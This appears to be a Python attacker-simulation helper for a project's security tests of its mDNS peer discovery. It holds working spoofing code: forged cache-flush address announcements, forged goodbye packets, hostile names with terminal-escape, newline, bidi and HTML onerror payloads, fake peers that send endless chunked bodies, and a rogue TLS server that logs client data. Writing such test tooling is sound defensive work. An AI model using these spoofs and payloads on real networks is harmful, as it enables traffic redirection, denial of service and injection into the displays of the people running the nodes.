"""An attacker on the LAN, for test_peers_spoof.py (run inside its network namespace).

    python3 spoof_tool.py announce SECS NODE_ID NAME KEYFILE ADDR
        announces, every second for SECS seconds, the node NODE_ID under its own instance
        (`NAME (<id8>)`) and host name (`streamhub-<id8>.local.`), with its TXT fields (id, api,
        the cluster tag of the key in KEYFILE, which any listener could copy) but the address
        ADDR, as unsolicited responses with the cache-flush bit: receivers replace the node's
        real address with ADDR (RFC 6762 §10.2), the strongest form of the spoof.
    python3 spoof_tool.py goodbye SECS NODE_ID NAME
        sends a goodbye (TTL 0) for that node's instance every half second for SECS seconds,
        as the node itself would once when it shuts down.
    python3 spoof_tool.py names SECS KEYFILE ADDR
        announces, every second for SECS seconds, one fake node per hostile name in NAMES
        (terminal escapes, a newline that forges a table row, CR, NUL, invalid UTF-8, bidi
        overrides, HTML), built byte by byte (no library would send these labels); prints
        the fake node ids, one a line, first.
    python3 spoof_tool.py evil COUNT KEYFILE ADDR BYTES DIR
        COUNT fake nodes, each with a certificate of its own (made in DIR) whose hash is the id
        it announces (with the cluster tag copied), so a node connects and says `hello`; each
        answers any request with BYTES of chunked body and never ends it. Prints "ready".
    python3 spoof_tool.py tls PORT CERT KEY LOG
        a TLS server on 0.0.0.0:PORT with the certificate CERT (any self-made one) offering the
        sync ALPN; one JSON line per connection in LOG: {"handshake": "ok"|error, "alpn",
        "received": bytes the client sent after the handshake, "data": their start}.
"""

import hashlib
import json
import socket
import ssl
import struct
import sys
import threading
import time

from zeroconf import DNSAddress, DNSOutgoing, DNSPointer, DNSService, DNSText, const

from mdns_tool import TYPE, cluster_tag

ALPN = "streamhub-sync/1"


def announce(secs, node_id, name, keyfile, addr):
    tag = cluster_tag(open(keyfile).read().strip())
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(addr))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    instance = f"{name} ({node_id[:8]}).{TYPE}"
    server = f"streamhub-{node_id[:8]}.local."
    ttl = 120
    unique = const._CLASS_IN | const._CLASS_UNIQUE
    txt = b"".join(bytes([len(e)]) + e for e in (
        f"id={node_id}".encode(), b"api=1", f"cluster={tag}".encode(), b"fp=" + b"0" * 64))
    deadline = time.monotonic() + secs
    while time.monotonic() < deadline:
        out = DNSOutgoing(const._FLAGS_QR_RESPONSE | const._FLAGS_AA)
        out.add_answer_at_time(DNSPointer(TYPE, const._TYPE_PTR, const._CLASS_IN, ttl, instance), 0)
        out.add_answer_at_time(DNSService(instance, const._TYPE_SRV, unique, ttl, 0, 0, 8443,
                                          server), 0)
        out.add_answer_at_time(DNSText(instance, const._TYPE_TXT, unique, ttl, txt), 0)
        out.add_answer_at_time(DNSAddress(server, const._TYPE_A, unique, ttl,
                                          socket.inet_aton(addr)), 0)
        for packet in out.packets():
            sock.sendto(packet, ("224.0.0.251", 5353))
        time.sleep(1)


def goodbye(secs, node_id, name):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    instance = f"{name} ({node_id[:8]}).{TYPE}"
    deadline = time.monotonic() + secs
    while time.monotonic() < deadline:
        out = DNSOutgoing(const._FLAGS_QR_RESPONSE | const._FLAGS_AA)
        out.add_answer_at_time(DNSPointer(TYPE, const._TYPE_PTR, const._CLASS_IN, 0, instance), 0)
        for packet in out.packets():
            sock.sendto(packet, ("224.0.0.251", 5353))
        time.sleep(0.5)


NAMES = [b"ctl\x1b[2J\x1b[31mRED\x1b[0m", b"nl\nnode9  deadbeef  mdns  online  1s ago",
         b"cr\rOVER", b"nul\x00x", b"bad utf8 \xff\xfe", b"bidi \xe2\x80\xaeevil\xe2\x80\xac",
         b"<img src=x onerror=alert(1)>", b"del\x7f\x08\x08\x08"]


def _name(labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def _rr(name, typ, data, cls=0x8001, ttl=120):
    return name + struct.pack(">HHIH", typ, cls, ttl, len(data)) + data


def names(secs, keyfile, addr):
    tag = cluster_tag(open(keyfile).read().strip())
    svc = [b"_streamhub", b"_tcp", b"local"]
    packets, ids = [], []
    for i, label in enumerate(NAMES):
        node_id = hashlib.sha256(b"hostile name %d" % i).hexdigest()
        ids.append(node_id)
        inst = _name([label + f" ({node_id[:8]})".encode()] + svc)
        host = _name([f"streamhub-{node_id[:8]}".encode(), b"local"])
        txt = b"".join(bytes([len(e)]) + e for e in (
            f"id={node_id}".encode(), b"api=1", f"cluster={tag}".encode()))
        answers = [_rr(_name(svc), 12, inst, cls=1), _rr(inst, 33, struct.pack(">HHH", 0, 0, 8443) + host),
                   _rr(inst, 16, txt), _rr(host, 1, socket.inet_aton(addr))]
        packets.append(struct.pack(">HHHHHH", 0, 0x8400, 0, len(answers), 0, 0) + b"".join(answers))
    print("\n".join(ids), flush=True)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(addr))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    deadline = time.monotonic() + secs
    while time.monotonic() < deadline:
        for packet in packets:
            sock.sendto(packet, ("224.0.0.251", 5353))
        time.sleep(1)


def evil(count, keyfile, addr, nbytes, folder):
    import asyncio
    import subprocess

    tag = cluster_tag(open(keyfile).read().strip())
    async def handle(reader, writer):
        try:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n"
                         b"transfer-encoding: chunked\r\n\r\n")
            chunk = b'{"api":1,"pad":"' + b"A" * 65000
            sent = 0
            while sent < nbytes:
                writer.write(b"%x\r\n" % len(chunk) + chunk + b"\r\n")
                sent += len(chunk)
                chunk = b"A" * 65000
                await writer.drain()
            await asyncio.sleep(3600)
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    async def main():
        packets = []
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(addr))
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        svc = [b"_streamhub", b"_tcp", b"local"]
        for i in range(count):
            cert, key = f"{folder}/evil{i}.crt", f"{folder}/evil{i}.key"
            subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                            "ec_paramgen_curve:prime256v1", "-nodes", "-keyout", key, "-out",
                            cert, "-days", "2", "-subj", f"/CN=evil{i}"], check=True,
                           capture_output=True)
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            ctx.load_cert_chain(cert, key)
            ctx.set_alpn_protocols([ALPN])
            ctx.verify_mode = ssl.CERT_NONE
            port = 9000 + i
            await asyncio.start_server(handle, addr, port, ssl=ctx)
            node_id = hashlib.sha256(ssl.PEM_cert_to_DER_cert(open(cert).read())).hexdigest()
            inst = _name([f"evil{i} ({node_id[:8]})".encode()] + svc)
            host = _name([f"streamhub-{node_id[:8]}".encode(), b"local"])
            txt = b"".join(bytes([len(e)]) + e for e in (
                f"id={node_id}".encode(), b"api=1", f"cluster={tag}".encode()))
            answers = [_rr(_name(svc), 12, inst, cls=1),
                       _rr(inst, 33, struct.pack(">HHH", 0, 0, port) + host),
                       _rr(inst, 16, txt), _rr(host, 1, socket.inet_aton(addr))]
            packets.append(struct.pack(">HHHHHH", 0, 0x8400, 0, len(answers), 0, 0)
                           + b"".join(answers))
        print("ready", flush=True)
        while True:
            for packet in packets:
                sock.sendto(packet, ("224.0.0.251", 5353))
            await asyncio.sleep(1)

    asyncio.run(main())


def tls(port, cert, key, log):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    ctx.set_alpn_protocols([ALPN])
    # No client certificate asked for: the node's is self-signed and OpenSSL would want a CA;
    # what matters is whether the node sends anything once the handshake is done.
    ctx.verify_mode = ssl.CERT_NONE
    srv = socket.create_server(("0.0.0.0", port), reuse_port=True)
    lock = threading.Lock()

    def one(raw):
        raw.settimeout(5)
        entry = {"handshake": "ok", "alpn": None, "received": 0, "data": ""}
        data = b""
        try:
            s = ctx.wrap_socket(raw, server_side=True)
        except (ssl.SSLError, OSError) as e:
            entry["handshake"] = f"{type(e).__name__}: {str(e)[:120]}"
            s = None
        try:
            if s is not None:
                entry["alpn"] = s.selected_alpn_protocol()
                while len(data) < 65536:
                    chunk = s.recv(4096)
                    if not chunk:
                        break
                    data += chunk
        except (ssl.SSLError, OSError):
            pass
        finally:
            raw.close()
        entry["received"] = len(data)
        entry["data"] = data[:300].decode("latin-1")
        with lock, open(log, "a") as f:
            f.write(json.dumps(entry) + "\n")

    print("listening", flush=True)
    while True:
        raw, _ = srv.accept()
        threading.Thread(target=one, args=(raw,), daemon=True).start()


if __name__ == "__main__":
    if sys.argv[1] == "announce":
        announce(float(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5], sys.argv[6])
    elif sys.argv[1] == "goodbye":
        goodbye(float(sys.argv[2]), sys.argv[3], sys.argv[4])
    elif sys.argv[1] == "names":
        names(float(sys.argv[2]), sys.argv[3], sys.argv[4])
    elif sys.argv[1] == "evil":
        evil(int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5]), sys.argv[6])
    elif sys.argv[1] == "tls":
        tls(int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5])
    else:
        sys.exit(__doc__)
